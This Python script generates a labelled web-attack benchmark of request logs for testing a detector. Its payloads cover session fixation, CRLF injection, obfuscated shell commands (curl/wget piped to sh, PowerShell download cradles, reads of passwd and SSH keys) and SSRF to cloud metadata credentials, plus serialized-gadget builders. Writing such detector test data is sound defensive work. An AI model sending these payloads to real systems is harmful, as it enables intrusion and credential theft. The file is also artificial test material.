#!/usr/bin/env python3
# Writes attacks.log, attacks.labels, requests.tsv, benign.log and benign.labels of
# tests/bench/data/thirdparty9 (fixed seed: the output is byte-identical on every run).
# Python 3 standard library only.  Written without reading policies/ or the detector.
#
# Angle of this set: generic techniques (no product/CVE paths) in the families the
# earlier sets covered least -- session fixation via URL, CRLF / header injection,
# obfuscated shell commands, SSRF, insecure deserialization, SSTI, prototype
# pollution, NoSQL, LDAP, XPath, XXE/XInclude and open redirect -- with about 15 % of
# the payloads in the User-Agent or Referer and about 15 % in a path segment.
# One request per attacking source.
import base64, binascii, datetime, os, random, urllib.parse

OUT = os.path.dirname(os.path.abspath(__file__))
SEED = 20260121
DAY = datetime.datetime(2026, 1, 21, 0, 0, 0)

# ----------------------------------------------------------------- user agents
# Browser releases current in January 2026: Chrome/Edge 143-144, Firefox 146-147,
# Safari 26.2 (iOS keeps reporting "OS 18_7" since Safari 26).
UA = {
 'chw': "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/144.0.0.0 Safari/537.36",
 'chw3': "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/143.0.0.0 Safari/537.36",
 'chm': "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/144.0.0.0 Safari/537.36",
 'chl': "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/143.0.0.0 Safari/537.36",
 'ffw': "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:147.0) Gecko/20100101 Firefox/147.0",
 'ffw6': "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:146.0) Gecko/20100101 Firefox/146.0",
 'ffl': "Mozilla/5.0 (X11; Linux x86_64; rv:147.0) Gecko/20100101 Firefox/147.0",
 'ffm': "Mozilla/5.0 (Macintosh; Intel Mac OS X 10.15; rv:146.0) Gecko/20100101 Firefox/146.0",
 'sfm': "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/26.2 Safari/605.1.15",
 'edg': "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/144.0.0.0 Safari/537.36 Edg/144.0.0.0",
 'edg3': "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/143.0.0.0 Safari/537.36 Edg/143.0.0.0",
 'ios': "Mozilla/5.0 (iPhone; CPU iPhone OS 18_7 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/26.2 Mobile/15E148 Safari/604.1",
 'and': "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/144.0.0.0 Mobile Safari/537.36",
}
BROWSERS = ['chw', 'chw', 'chw', 'chw3', 'chm', 'chm', 'chl', 'ffw', 'ffw', 'ffw6', 'ffl', 'ffm',
            'sfm', 'sfm', 'edg', 'edg3', 'ios', 'ios', 'and', 'and']
TOOL = {
 'commix': "commix/v4.1-stable (https://commixproject.com)",
 'curl': "curl/8.17.0",
 'py': "python-requests/2.32.5",
 'go': "Go-http-client/1.1",
 'ppmap': "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/80.0.3987.149 Safari/537.36",
}

# ----------------------------------------------------------------- encoders
def b64(x):
    if isinstance(x, str):
        x = x.encode('utf-8')
    return base64.b64encode(x).decode()

def b64url(x):
    return b64(x).replace('+', '-').replace('/', '_').rstrip('=')

def q(s):
    """every reserved character percent-encoded (Burp 'encode all special', Go url.QueryEscape minus '+')"""
    return urllib.parse.quote(s, safe='')

def form(s):
    """application/x-www-form-urlencoded, as an HTML GET form or python-requests params= sends it"""
    return urllib.parse.quote_plus(s, safe='*')

def euc(s):
    """JavaScript encodeURIComponent"""
    return urllib.parse.quote(s, safe="!'()*~")

def br(s):
    """typed into a browser address bar: WHATWG special-query percent-encode set"""
    out = []
    for c in s.encode('utf-8'):
        out.append('%%%02X' % c if c < 0x21 or c > 0x7e or c in b'"#<>\'' else chr(c))
    return ''.join(out)

def brp(s):
    """typed into a browser address bar, path part: WHATWG path percent-encode set"""
    out = []
    for c in s.encode('utf-8'):
        out.append('%%%02X' % c if c < 0x21 or c > 0x7e or c in b'"#<>?`{}' else chr(c))
    return ''.join(out)

def ip_int(a):
    return sum(int(x) << (8 * (3 - i)) for i, x in enumerate(a.split('.')))

# ----------------------------------------------------------------- serialized-object builders
# Structurally plausible prefixes of what ysoserial / ysoserial.net / PHPGGC / pickle /
# Marshal emit (magic bytes, record layout, gadget class names); not working chains.
def jutf(s):
    b = s.encode()
    return len(b).to_bytes(2, 'big') + b

def jdesc(name, suid, flags, fields):
    out = b'r' + jutf(name) + suid + bytes([flags]) + len(fields).to_bytes(2, 'big')
    for tc, fname, ftype in fields:
        out += tc.encode() + jutf(fname) + ((b't' + jutf(ftype)) if ftype else b'')
    return out + b'x'

JAVA_MAGIC = b'\xac\xed\x00\x05'

def java_cc1(cmd):
    """ysoserial CommonsCollections1 layout"""
    return (JAVA_MAGIC + b's' +
            jdesc('sun.reflect.annotation.AnnotationInvocationHandler', b'\x55\xca\xf5\x0f\x15\xcb\x7e\xa5', 2,
                  [('L', 'memberValues', 'Ljava/util/Map;'), ('L', 'type', 'Ljava/lang/Class;')]) +
            b'ps}\x00\x00\x00\x01' + jutf('java.util.Map') + b'xr' + jutf('java.lang.reflect.Proxy') +
            b'\xe1\x27\xda\x20\xcc\x10\x43\xcb\x02\x00\x01L\x00\x01ht' + jutf('Ljava/lang/reflect/InvocationHandler;') +
            b'xps' + jdesc('org.apache.commons.collections.map.LazyMap', b'\x6e\xe5\x94\x82\x9e\x79\x10\x94', 3,
                           [('L', 'factory', 'Lorg/apache/commons/collections/Transformer;')]) +
            b'ps' + jdesc('org.apache.commons.collections.functors.ChainedTransformer', b'\x30\xc7\x97\xec\x28\x7a\x97\x04', 2,
                          [('[', 'iTransformers', '[Lorg/apache/commons/collections/Transformer;')]) +
            b'pur' + jutf('[Lorg.apache.commons.collections.Transformer;') + b'\xbd\x56\x2a\xf1\xd8\x34\x18\x99\x02\x00\x00xp\x00\x00\x00\x05' +
            b's' + jdesc('org.apache.commons.collections.functors.ConstantTransformer', b'\x58\x76\x90\x11\x41\x02\xb1\x94', 2,
                         [('L', 'iConstant', 'Ljava/lang/Object;')]) +
            b'pvr' + jutf('java.lang.Runtime') + b'\x00' * 8 + b'\x00\x00\x00xps' +
            jdesc('org.apache.commons.collections.functors.InvokerTransformer', b'\x87\xe8\xff\x6b\x7b\x7c\xce\x38', 2,
                  [('[', 'iArgs', '[Ljava/lang/Object;'), ('L', 'iMethodName', 'Ljava/lang/String;'),
                   ('[', 'iParamTypes', '[Ljava/lang/Class;')]) +
            b'pt' + jutf('getRuntime') + b't' + jutf('invoke') + b't' + jutf('exec') + b't' + jutf(cmd) + b'x')

def java_urldns(host):
    """ysoserial URLDNS layout (HashMap with one java.net.URL key)"""
    return (JAVA_MAGIC + b's' +
            jdesc('java.util.HashMap', b'\x05\x07\xda\xc1\xc3\x16\x60\xd1', 3, [('F', 'loadFactor', None), ('I', 'threshold', None)]) +
            b'p?@\x00\x00\x00\x00\x00\x0cw\x08\x00\x00\x00\x10\x00\x00\x00\x01s' +
            jdesc('java.net.URL', b'\x96\x25\x37\x36\x1a\xfc\xe4\x72', 3,
                  [('I', 'hashCode', None), ('I', 'port', None), ('L', 'authority', 'Ljava/lang/String;'),
                   ('L', 'file', 'Ljava/lang/String;'), ('L', 'host', 'Ljava/lang/String;'),
                   ('L', 'protocol', 'Ljava/lang/String;'), ('L', 'ref', 'Ljava/lang/String;')]) +
            b'p\xff\xff\xff\xff\xff\xff\xff\xfft' + jutf(host) + b't' + jutf('') + b't' + jutf(host) + b't' + jutf('http') +
            b'pxt' + jutf('http://' + host) + b'x')

def java_priorityqueue_hex():
    """ysoserial CommonsBeanutils1 / CommonsCollections2 start (PriorityQueue), hex form"""
    return binascii.hexlify(JAVA_MAGIC + b's' + jdesc('java.util.PriorityQueue', b'\x94\xda\x30\xb4\xfb\x3f\x82\xb1', 3,
                                                     [('I', 'size', None), ('L', 'comparator', 'Ljava/util/Comparator;')]) +
                            b'p\x00\x00\x00\x02s' +
                            jdesc('org.apache.commons.beanutils.BeanComparator', b'\xe3\xa1\x88\xea\x73\x22\xa4\x48', 2,
                                  [('L', 'comparator', 'Ljava/util/Comparator;'), ('L', 'property', 'Ljava/lang/String;')])).decode()

def java_object_array():
    """JSF client-side state: Object[] at the top (Mojarra, unencrypted)"""
    return (JAVA_MAGIC + b'ur' + jutf('[Ljava.lang.Object;') + b'\x90\xceX\x9f\x10s)l\x02\x00\x00xp\x00\x00\x00\x03' +
            b't' + jutf('1') + b'pt' + jutf('/login.xhtml') + b's' +
            jdesc('org.apache.commons.collections.keyvalue.TiedMapEntry', b'\x8a\xad\xd2\x9b\x39\xc1\x1f\xdb', 2,
                  [('L', 'key', 'Ljava/lang/Object;'), ('L', 'map', 'Ljava/util/Map;')]) + b'p')

def gzip_stored(data):
    """gzip member with one stored deflate block (deterministic on any zlib)"""
    n = len(data)
    return (b'\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\xff' + b'\x01' + n.to_bytes(2, 'little') +
            (n ^ 0xffff).to_bytes(2, 'little') + data +
            (binascii.crc32(data) & 0xffffffff).to_bytes(4, 'little') + n.to_bytes(4, 'little'))

def lp(s):
    """.NET length-prefixed string (7-bit varint length)"""
    b = s.encode()
    n, out = len(b), b''
    while True:
        if n < 0x80:
            out += bytes([n])
            break
        out += bytes([(n & 0x7f) | 0x80])
        n >>= 7
    return out + b

def i32(n):
    return (n & 0xffffffff).to_bytes(4, 'little')

XAML = ('<ResourceDictionary xmlns="http://schemas.microsoft.com/winfx/2006/xaml/presentation" '
        'xmlns:x="http://schemas.microsoft.com/winfx/2006/xaml" xmlns:System="clr-namespace:System;assembly=mscorlib" '
        'xmlns:Diag="clr-namespace:System.Diagnostics;assembly=system"><ObjectDataProvider x:Key="" ObjectType="{x:Type Diag:Process}" '
        'MethodName="Start"><ObjectDataProvider.MethodParameters><System:String>cmd</System:String>'
        '<System:String>/c %s</System:String></ObjectDataProvider.MethodParameters></ObjectDataProvider></ResourceDictionary>')

def dotnet_bf(cmd):
    """ysoserial.net -g TextFormattingRunProperties -f BinaryFormatter layout"""
    return (b'\x00' + i32(1) + i32(-1) + i32(1) + i32(0) +
            b'\x0c' + i32(2) + lp('Microsoft.PowerShell.Editor, Version=3.0.0.0, Culture=neutral, PublicKeyToken=31bf3856ad364e35') +
            b'\x05' + i32(1) + lp('Microsoft.VisualStudio.Text.Formatting.TextFormattingRunProperties') + i32(1) +
            lp('ForegroundBrush') + b'\x01' + i32(2) + b'\x06' + i32(3) + lp(XAML % cmd) + b'\x0b')

def viewstate(cmd):
    """ObjectStateFormatter: 0xFF 0x01, token 0x32 (BinaryFormatter blob) -> base64 starts /wEy"""
    bf = dotnet_bf(cmd)
    n, ln = len(bf), b''
    while True:
        if n < 0x80:
            ln += bytes([n])
            break
        ln += bytes([(n & 0x7f) | 0x80])
        n >>= 7
    return b'\xff\x01\x32' + ln + bf

def rm(s):
    """Ruby Marshal short string / symbol body (length + 5)"""
    b = s.encode()
    return bytes([len(b) + 5]) + b

def ruby_universal(cmd):
    """Ruby 2.x 'universal' Marshal gadget (Gem::Requirement -> Gem::Package::TarReader -> Net::WriteAdapter)"""
    return (b'\x04\x08[\x08c' + rm('Gem::SpecFetcher') + b'c' + rm('Gem::Installer') + b'U:' + rm('Gem::Requirement') +
            b'[\x06o:' + rm('Gem::Package::TarReader') + b'\x06:' + rm('@io') + b'o:' + rm('Net::BufferedIO') + b'\x07;\x07o:' +
            rm('Gem::Package::TarReader::Entry') + b'\x07:' + rm('@read') + b'i\x00:' + rm('@header') + b'I"' + rm('aaa') +
            b'\x06:\x06ET:' + rm('@debug_output') + b'o:' + rm('Net::WriteAdapter') + b'\x07:' + rm('@socket') + b'o:' +
            rm('Gem::RequestSet') + b'\x07:' + rm('@sets') + b'o;\x0e\x07;\x0fm' + rm('Kernel') + b':' + rm('@method_id') +
            b':' + rm('system') + b':' + rm('@git_set') + b'I"' + rm(cmd) + b'\x06;\x0cT;\x12:' + rm('resolve'))

def pickle_p0(mod, fn, arg):
    return ("c%s\n%s\n(S'%s'\ntR." % (mod, fn, arg)).encode()

def pickle_p2(mod, fn, arg):
    a = arg.encode()
    return (b'\x80\x02c' + mod.encode() + b'\n' + fn.encode() + b'\nq\x00X' + len(a).to_bytes(4, 'little') + a +
            b'q\x01\x85q\x02Rq\x03.')

def pickle_p4(mod, fn, arg):
    body = (b'\x8c' + bytes([len(mod)]) + mod.encode() + b'\x94\x8c' + bytes([len(fn)]) + fn.encode() + b'\x94\x93\x94' +
            b'\x8c' + bytes([len(arg)]) + arg.encode() + b'\x94\x85\x94R\x94.')
    return b'\x80\x04\x95' + len(body).to_bytes(8, 'little') + body

# Callback hosts and attacker addresses: *.example names and 198.18.0.0/15.
CB = ['oob-7f3k.attacker.example', 'x1c9.callback.example', 'kq2z.oast.example', 'n0p3.evil.example']
EVIL = 'evil.example'
SITE = 'shop.example'

PATT = 'PayloadsAllTheThings'
HT = 'HackTricks'
PS = 'PortSwigger Web Security Academy'
E = []

def A(cat, tech, target, status, source, place='query', ua=None, ref=None, tool=None):
    assert ' ' not in target and '\n' not in target, target
    assert place in ('query', 'path', 'ua', 'referer')
    assert (place == 'ua') == (ua is not None)
    if place == 'referer':
        assert ref is not None
    E.append(dict(cat=cat, tech=tech if place == 'query' else tech + '@' + place, target=target,
                  status=status, source=source, place=place, ua=ua, ref=ref, tool=tool))

# ================================================================= session fixation via URL
# The link is crafted by the attacker and posted off-site; the request is made by whoever
# follows it.  Referer is the off-site page (set in main()).
SF = 'OWASP Session fixation / WSTG-SESS-03'
ZAP = 'ZAP default session-token names'
A('session-fixation', 'phpsessid-query', '/login.php?PHPSESSID=9d4e1e23bd5b727046a9e3b4b7db57bd', 200, SF + ' (PHP session.use_trans_sid)')
A('session-fixation', 'phpsessid-query-chosen', '/index.php?route=account/login&PHPSESSID=fixed0session0id0deadbeef', 200, SF + ' (attacker-chosen PHP id)')
A('session-fixation', 'jsessionid-path-param', '/account/login;jsessionid=0F3A9C2D71E84B5A6C9D0E1F2A3B4C5D', 200, SF + ' (Servlet URL rewriting ;jsessionid=)', place='path')
A('session-fixation', 'jsessionid-weblogic-path', '/portal/home.do;jsessionid=Zx8kPq2LmN4vB7cR1tY6wE3aS9dF0gH5jK2lQ8zX!-1853254927', 200, SF + ' (WebLogic-style ;jsessionid with server hash)', place='path')
A('session-fixation', 'jsessionid-query', '/shop/cart.jsp?JSESSIONID=A1B2C3D4E5F60718293A4B5C6D7E8F90&lang=en', 200, SF + ' (JSESSIONID as query parameter)')
A('session-fixation', 'aspnet-cookieless-path', '/(S(lit3py55t21z5v55vlm25s55))/Default.aspx', 200, SF + ' (ASP.NET cookieless session (S(...)))', place='path')
A('session-fixation', 'aspnet-cookieless-path-deep', '/(S(x1q3kbn5cg0lhq45rnnkai55))/Account/Login.aspx?ReturnUrl=%2fOrders.aspx', 200, SF + ' (ASP.NET cookieless session)', place='path')
A('session-fixation', 'aspnet-sessionid-query', '/Account/Login.aspx?ASP.NET_SessionId=lit3py55t21z5v55vlm25s55', 200, ZAP + ' (ASP.NET_SessionId)')
A('session-fixation', 'aspsessionid-classic', '/default.asp?ASPSESSIONIDQQGGGNCG=LMPPCJCBJIHPFNDLAIBGBMPH', 200, ZAP + ' (classic ASP ASPSESSIONID)')
A('session-fixation', 'rails-session-id', '/users/sign_in?_session_id=8c0f5bd1a3e24f7c9b2d6e1a0f4c3b2a', 200, SF + ' (Rails _session_id)')
A('session-fixation', 'express-connect-sid', '/login?connect.sid=s%3AqP3xJ8v2W5nZ0kL7mR4tY1uC6bN9aE2d.T6Yh0v1bq2R3s4t5u6v7w8x9y0zA1B2C3D4E5F6G7H8', 200, SF + ' (Express/connect connect.sid)')
A('session-fixation', 'koa-sess', '/account?koa.sess=eyJ1aWQiOjAsIl9leHBpcmUiOjE3NjkwMDAwMDAwMDAsIl9tYXhBZ2UiOjg2NDAwMDAwfQ%3D%3D&koa.sess.sig=n3qgZpS0vV5lX6m4Hq0WcT1b8jA', 200, SF + ' (Koa koa.sess / koa.sess.sig)')
A('session-fixation', 'sails-sid', '/login?sails.sid=s%3AZ6mK1pQ9rT3vX5bN7cD2fG4hJ8kL0wE1.AbCdEfGhIjKlMnOpQrStUvWxYz0123456789%2Bab', 200, SF + ' (Sails sails.sid)')
A('session-fixation', 'play-session', '/login?PLAY_SESSION=eyJhbGciOiJIUzI1NiJ9.eyJkYXRhIjp7InVzZXJuYW1lIjoiIn0sIm5iZiI6MTc2ODk1MzYwMCwiaWF0IjoxNzY4OTUzNjAwfQ.Sp9aZk1n3yq2vB4xW8tR0eL6cH5mJ7uD1fG3kA9sQ0w', 200, SF + ' (Play Framework PLAY_SESSION)')
A('session-fixation', 'zenid', '/index.php?main_page=login&zenid=5b1d7e0c9a2f4e6b8d3c1a0f9e8d7c6b', 200, ZAP + ' (zenid)')
A('session-fixation', 'coldfusion-cfid-cftoken', '/index.cfm?CFID=104872&CFTOKEN=57019433', 200, SF + ' (ColdFusion CFID/CFTOKEN in URL)')
A('session-fixation', 'coldfusion-cfid-jsessionid', '/members/login.cfm?CFID=3385&CFTOKEN=b2f1e0d9c8a7b6c5-D4E3F2A1-0B9C-8D7E-6F5A4B3C2D1E0F9A&jsessionid=c830a6f2b1e94d7a5c3b', 200, SF + ' (ColdFusion with J2EE sessions)')
A('session-fixation', 'laravel-session', '/login?laravel_session=eyJpdiI6IkZ4c2ZQWG9XN3d4R1J6d0Z3cU9yS2c9PSIsInZhbHVlIjoiT2JmNVZ4In0%3D', 200, SF + ' (Laravel laravel_session)')
A('session-fixation', 'django-sessionid', '/accounts/login/?next=/dashboard/&sessionid=q7w1e9r3t5y7u2i4o6p8a0s2d4f6g8h0', 200, SF + ' (Django sessionid)')
A('session-fixation', 'codeigniter-ci-session', '/auth/login?ci_session=3f9c1d7e5a2b8c4d6e0f1a3b5c7d9e2f4a6b8c0d', 200, SF + ' (CodeIgniter ci_session)')
A('session-fixation', 'meta-set-cookie', '/search?q=' + br('<meta http-equiv="Set-Cookie" content="PHPSESSID=fixedbyattacker01; path=/">'), 200, SF + ' (meta http-equiv Set-Cookie injection)')
A('session-fixation', 'document-cookie-script', '/search?q=' + br('<script>document.cookie="JSESSIONID=4F2D9A0C7E1B3A5C;path=/"</script>'), 200, SF + ' (document.cookie written by injected script)')

# ================================================================= CRLF / header injection
CR = PATT + ' CRLF Injection'
CF = 'CRLFuzz (dwisiswant0) escape list, injector Set-Cookie:param=crlfuzz;'
A('crlf', 'set-cookie-encoded-colon', '/logout?return=%2Fhome%0D%0ASet-Cookie%3A%20admin%3Dtrue%3B%20Path%3D%2F', 302, CR + ' (cookie injection)')
A('crlf', 'location-header', '/lang/switch?locale=fr%0d%0aLocation:%20https://evil.example/phish', 302, CR + ' (Location)')
A('crlf', 'response-splitting-second-response', '/page?ref=x%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0aContent-Length:%2025%0d%0a%0d%0a%3Cscript%3Ealert(1)%3C/script%3E', 200, 'Amit Klein, HTTP Response Splitting (whitepaper); OWASP HTTP Response Splitting')
A('crlf', 'xss-protection-chunk', '/%0d%0aContent-Length:35%0d%0aX-XSS-Protection:0%0d%0a%0d%0a23%0d%0a%3Csvg%20onload=alert(document.domain)%3E%0d%0a0%0d%0a/%2f%2e%2e', 404, CR + ' (XSS with X-XSS-Protection:0)', place='path')
A('crlf', 'crlfuzz-path-crlf', '/%0d%0aSet-Cookie:param=crlfuzz;', 404, CF, place='path', tool='go')
A('crlf', 'crlfuzz-hash-crlf', '/crlfuzz%23%0d%0aSet-Cookie:param=crlfuzz;', 404, CF + ' (%23%0d%0a)', place='path')
A('crlf', 'crlfuzz-question-crlf', '/?crlfuzz=%3f%0d%0aSet-Cookie:param=crlfuzz;', 200, CF + ' (%3f%0d%0a)')
A('crlf', 'utf8-u560a-u560d-query', '/search?q=shoes%E5%98%8A%E5%98%8DSet-Cookie:crlf=injection', 200, CR + ' (UTF-8 U+560A U+560D, Twitter/WAF bypass)')
A('crlf', 'iis-u000a-path', '/%u000d%u000aSet-Cookie:crlf=injection', 400, CR + ' (IIS %u encoding)', place='path')
A('crlf', 'dotdot-crlf-path', '/%2e%2e%2f%0d%0aSet-Cookie:crlf=injection', 400, 'nuclei crlf-injection escape list (%2e%2e%2f%0d%0a)', place='path')
A('crlf', 'request-splitting-upstream', '/assets/%20HTTP/1.1%0d%0aHost:%20evil.example%0d%0aX-Forwarded-For:%20127.0.0.1%0d%0a%0d%0aGET%20/x', 404, 'Detectify, nginx $uri CRLF / request splitting to upstream', place='path')
A('crlf', 'content-disposition-download', '/api/v1/export?filename=report.csv%0d%0aContent-Disposition:%20attachment;%20filename=invoice.html%0d%0aContent-Type:%20text/html', 200, CR + ' (download header injection)')
A('crlf', 'double-encoded-set-cookie', '/callback?next=%250D%250ASet-Cookie:%20sessionid%3Dattacker', 302, CR + ' (double URL encoding)')
A('crlf', 'lf-refresh-header', '/go?to=%0aRefresh:%200;url=https://evil.example/', 302, CR + ' (LF only, Refresh header)')
A('crlf', 'escaped-backslash-rn', '/api/v1/redirect?uri=/home%5Cr%5CnSet-Cookie:%20role=admin', 302, HT + ' CRLF (\\r\\n escapes unescaped by app)')
A('crlf', 'cr-only-location', '/i18n?l=de%0dLocation:%20//evil.example', 302, 'CRLF-Injection-Scanner / CRLFsuite payload list (CR only)')
A('crlf', 'email-bcc-header', '/contact/send?from=alice%40example.org%0ABcc:%20list%40spam.example&subject=Hi&body=test', 200, 'OWASP WSTG-INPV-10 IMAP/SMTP injection (mail header injection, Bcc)')
A('crlf', 'smtp-command-injection', '/newsletter/subscribe?email=a%40b.example%0D%0ARCPT%20TO:%3Cvictim%40target.example%3E%0D%0ADATA%0D%0ASubject:%20hi%0D%0A%0D%0Aspam%0D%0A.%0D%0AQUIT', 200, 'OWASP WSTG-INPV-10 (SMTP command injection through CRLF)')
A('crlf', 'imap-command-injection', '/webmail/read?mailbox=INBOX%22%0D%0AV100%20CAPABILITY%0D%0AV101%20FETCH%204791%20BODY%5B%5D%0D%0AV102%20SELECT%20%22INBOX&passed_id=46106', 200, 'OWASP WSTG-INPV-10 (IMAP command injection, mailbox parameter)')
A('crlf', 'pop3-command-injection', '/mailbox/get?msg=3%0d%0aRETR%201%0d%0aDELE%201%0d%0aQUIT', 200, 'OWASP WSTG-INPV-10 / HackTricks POP3 (commands after CRLF)')
A('crlf', 'memcached-command-injection', '/cache/get?key=user_42%0d%0aset%20admin_flag%200%200%201%0d%0a1', 200, 'Ivan Novikov "The New Page of Injections Book: Memcached Injections" (Black Hat 2014)')
A('crlf', 'ua-log-poisoning', '/', 200, CR + ' (User-Agent, encoded CRLF for log poisoning)', place='ua', ua='Mozilla/5.0%0D%0AX-Forwarded-For:%20127.0.0.1%0D%0ASet-Cookie:%20admin=1')
A('crlf', 'referer-set-cookie', '/', 200, CR + ' (Referer header)', place='referer', ref='https://shop.example/%0d%0aSet-Cookie:%20crlf=injected')
A('crlf', 'referer-header-inject', '/products', 200, CR + ' (Referer header, log poisoning)', place='referer', ref='https://www.google.com/%0D%0AX-Injected:%201%0D%0A')
A('crlf', 'referer-location', '/about', 200, CR + ' (Referer header, Location)', place='referer', ref='http://shop.example/?%0d%0aLocation:%20http://evil.example/')

# ================================================================= obfuscated shell commands
CI = PATT + ' Command Injection'
BF = 'Bashfuscator'
IDF = 'Invoke-DOSfuscation (Daniel Bohannon)'
def psenc(s):
    return base64.b64encode(s.encode('utf-16-le')).decode()
PS1 = psenc("IEX(New-Object Net.WebClient).DownloadString('http://198.18.41.7/a.ps1')")
PS2 = psenc('whoami /all')
A('cmdi', 'quote-split-single', "/ping?host=127.0.0.1%3Bc'a't%24%7BIFS%7D/e't'c/p'a'sswd", 200, CI + ' (quote splitting)')
A('cmdi', 'quote-split-double', '/tools/dns?name=example.org|w"h"o"am"i', 200, CI + ' (double-quote splitting)')
A('cmdi', 'dollar-at', '/api/v1/convert?fmt=png;who$@ami', 200, CI + ' ($@ splitting)')
A('cmdi', 'undefined-var-u', '/status?svc=nginx%0Acat$u%20/etc$u/passwd', 200, CI + ' ($u empty variable)')
A('cmdi', 'glob-question-marks', '/exec?c=;/???/c?t%20/???/p??s??', 200, CI + ' (wildcards /???/c?t)')
A('cmdi', 'glob-bracket-whoami', '/debug?cmd=%60/usr/bin/[w]hoami%60', 200, CI + ' (bracket glob /usr/bin/[w]hoami)')
A('cmdi', 'brace-expansion-wget', '/hooks/deploy?branch=main%3B%7Bwget%2C-qO-%2C198.18.41.8%2Fs%7D%7Csh', 200, CI + ' (brace expansion, wget|sh)')
A('cmdi', 'backticks', '/search?q=%60id%60', 200, CI + ' (backticks)')
A('cmdi', 'tilde-expansion', '/backup?path=;cat${IFS}~root/.ssh/id_rsa', 200, BF + ' / ' + CI + ' (tilde expansion ~root)')
A('cmdi', 'substring-home-slash', '/file?name=x;cat${IFS}${HOME:0:1}etc${HOME:0:1}passwd', 200, CI + ' (${HOME:0:1} for /)')
A('cmdi', 'base64-pipe-sh', '/ping?host=1;echo%20Y2F0IC9ldGMvcGFzc3dk|base64%20-d|sh', 200, CI + ' (base64 -d | sh)')
A('cmdi', 'rev-herestring', "/convert?file=a.png;$(rev%3C%3C%3C'dwssap/cte/%20tac')", 200, BF + ' (Reverse command obfuscator)')
A('cmdi', 'backslash-split', '/diag?h=x;w\\ho\\am\\i', 200, CI + ' (backslash splitting w\\ho\\am\\i)')
A('cmdi', 'windows-cmd-c', '/tools/ping?target=127.0.0.1%26cmd%20/c%20whoami', 200, CI + ' (Windows & cmd /c)')
A('cmdi', 'windows-caret', '/tools/traceroute?h=8.8.8.8|c^m^d%20/c%20%22w^h^o^a^m^i%22', 200, IDF + ' (caret obfuscation)')
A('cmdi', 'powershell-enc', '/api/v1/printer?name=hp%7Cpowershell.exe%20-NoP%20-NonI%20-W%20Hidden%20-Enc%20' + PS1, 200, 'PowerShell -EncodedCommand (UTF-16LE base64), Empire/Cobalt-style launcher')
A('cmdi', 'commix-classic', '/index.php?addr=127.0.0.1%3Becho%20MNXZKI%24%28%28%2039%2B62%20%29%29%24%28echo%20MNXZKI%29MNXZKI', 200, 'commix classic (results-based) technique', tool='commix')
A('cmdi', 'semicolon-ifs-path', '/api/ping/127.0.0.1;cat${IFS}/etc/passwd', 404, CI + ' (${IFS}) in a path segment', place='path')
A('cmdi', 'backticks-filename-path', '/files/%60whoami%60.txt', 404, CI + ' (backticks in file name)', place='path')
A('cmdi', 'dollar-paren-path', '/diag/host/x%7C%7Bcurl,-s,198.18.41.11%7D%7Csh', 404, CI + ' (brace expansion) in a path segment', place='path')
A('cmdi', 'ua-curl-sh', '/', 200, CI + ' (User-Agent, $(curl|sh))', place='ua', ua='Mozilla/5.0 $(curl${IFS}-s${IFS}198.18.41.12/ua|sh)')
A('cmdi', 'ua-glob', '/index.php', 200, CI + ' (User-Agent, /???/??t)', place='ua', ua=';/???/??t${IFS}/???/p??s??')
A('cmdi', 'ua-backtick-base64', '/contact', 200, CI + ' (User-Agent, backticks + base64)', place='ua', ua='`echo${IFS}d2hvYW1p|base64${IFS}-d|sh`')
A('cmdi', 'ua-powershell-enc', '/', 200, 'PowerShell -enc (User-Agent)', place='ua', ua='Mozilla/5.0 & powershell -nop -w hidden -enc ' + PS2)
A('cmdi', 'referer-brace-wget', '/', 200, CI + ' (Referer, brace expansion)', place='referer', ref='https://shop.example/?q=;{wget,-qO-,198.18.41.13/r}|sh')
A('cmdi', 'referer-backslash', '/blog/', 200, CI + ' (Referer, $(w\\ho\\am\\i))', place='referer', ref='https://www.google.com/$(w\\ho\\am\\i)')
A('cmdi', 'referer-cmd-caret', '/news', 200, IDF + ' (Referer, caret)', place='referer', ref='http://shop.example/|c^u^r^l -s 198.18.41.14/w')

# ================================================================= SSRF
SR = PATT + ' Server Side Request Forgery'
SM = 'SSRFmap'
IM = 'http://169.254.169.254'
A('ssrf', 'aws-iam-credentials', '/fetch?url=' + IM + '/latest/meta-data/iam/security-credentials/', 200, SR + ' (AWS IMDS)')
A('ssrf', 'gcp-metadata-token', '/proxy?u=http://metadata.google.internal/computeMetadata/v1beta1/instance/service-accounts/default/token', 200, SR + ' (GCP metadata v1beta1)')
A('ssrf', 'azure-identity-token', '/api/image?src=' + q(IM + '/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/'), 200, SR + ' (Azure managed identity token)')
A('ssrf', 'alibaba-metadata', '/fetch?url=http://100.100.100.200/latest/meta-data/ram/security-credentials/', 200, SR + ' (Alibaba Cloud metadata)')
A('ssrf', 'digitalocean-metadata', '/webhooks/test?url=' + IM + '/metadata/v1.json', 200, SR + ' (DigitalOcean metadata)')
A('ssrf', 'decimal-ip', '/fetch?url=http://%d/latest/meta-data/' % ip_int('169.254.169.254'), 200, SR + ' (decimal IP)')
A('ssrf', 'octal-ip', '/proxy?url=http://0251.0376.0251.0376/latest/meta-data/', 200, SR + ' (octal IP)')
A('ssrf', 'hex-ip', '/fetch?url=http://0xa9fea9fe/latest/meta-data/', 200, SR + ' (hex IP)')
